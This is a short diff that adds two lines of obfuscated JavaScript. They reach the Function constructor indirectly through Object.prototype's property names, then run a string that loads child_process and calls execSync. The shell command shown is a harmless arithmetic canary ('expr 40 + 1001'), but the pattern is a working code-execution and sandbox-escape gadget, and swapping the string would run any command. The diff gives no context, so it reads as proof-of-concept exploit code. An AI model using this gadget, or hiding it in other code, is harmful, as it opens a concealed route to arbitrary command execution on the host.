@@ -1,0 +1,2 @@
+const k=Object.getOwnPropertyNames(Object.prototype)[0]; const o=JSON.parse('{}');
+o.toString[k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
